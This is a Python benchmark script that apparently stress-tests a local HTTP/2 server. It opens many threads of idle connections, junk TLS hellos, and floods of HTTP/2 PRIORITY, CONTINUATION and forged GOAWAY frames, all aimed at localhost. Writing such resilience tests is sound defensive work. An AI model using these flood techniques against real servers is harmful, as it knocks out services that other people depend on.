"""An attacker of `strangers.py`, a program of its own: it takes no time to begin, and knows nothing of cutlayer.

    python benchmarks/strangers_attack.py KIND PORT CA SECONDS

It says `begun` when it begins, and at the end how many connections it has made.
"""

from __future__ import annotations

import contextlib
import resource
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
IDLE_CONNECTIONS = 1_100
THREADS = {"idle": 1, "hellos": 4, "priority": 8, "continue": 8, "goaway": 2}
NONSENSE = b"\x16\x03\x01\x02\x00\x01" + bytes(600)
CONNECT_SECONDS = 2.0
FROM = ("127.0.0.2", 0)
"""Another address of this machine than its devices': that of a front is never shut out."""


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """One frame of HTTP/2."""
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


FLOODS = {
    "priority": b"".join(frame(2, 0, 2 * number + 1, struct.pack(">IB", 0, 1)) for number in range(1, 2000)),
    "continue": b"".join([frame(9, 0, 1, b"\x00\x03foo\x7f\x80\x7f" + b"a" * 255)] * 60),
    "goaway": b"".join([frame(7, 0, 0, struct.pack(">II", 0, 2) + b"\nerror: FORGED\n" * 8)] * 10),
}
BEGINNINGS = {"continue": frame(1, 0, 1, b"")}


class Attack:
    """An attack that several threads make until a time.

    Args:
      kind: One of `THREADS`.
      port: Of this machine.
      authority: The fleet's ca.crt.
      seconds: How long.
    """

    def __init__(self, kind: str, port: int, authority: str, seconds: float) -> None:
        self._kind, self._port, self._end = kind, port, time.monotonic() + seconds
        self._context = ssl.create_default_context(cafile=authority)
        self._context.set_alpn_protocols(["h2"])
        self._made = [0] * THREADS[kind]

    def run(self) -> int:
        """Attacks; how many connections were made."""
        threads = [threading.Thread(target=self._attack, args=(number,)) for number in range(len(self._made))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return sum(self._made)

    def _attack(self, number: int) -> None:
        if self._kind == "idle":
            held = []
            with contextlib.suppress(OSError):
                while len(held) < IDLE_CONNECTIONS:
                    held.append(self._connected())
                    self._made[number] += 1
            time.sleep(max(0.0, self._end - time.monotonic()))
            for one in held:
                one.close()
            return
        while time.monotonic() < self._end:
            with contextlib.suppress(OSError):
                self._once(number)

    def _connected(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self._port), CONNECT_SECONDS, source_address=FROM)

    def _once(self, number: int) -> None:
        with self._connected() as stranger:
            self._made[number] += 1
            if self._kind == "hellos":
                stranger.sendall(NONSENSE)
                return
            with self._context.wrap_socket(stranger, server_hostname="127.0.0.1") as spoken:
                spoken.sendall(PREFACE + frame(4, 0, 0, b"") + BEGINNINGS.get(self._kind, b""))
                while time.monotonic() < self._end:
                    spoken.sendall(FLOODS[self._kind])


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 4096)), hard))
    attack = Attack(sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]))
    print("begun", flush=True)
    print(attack.run(), flush=True)
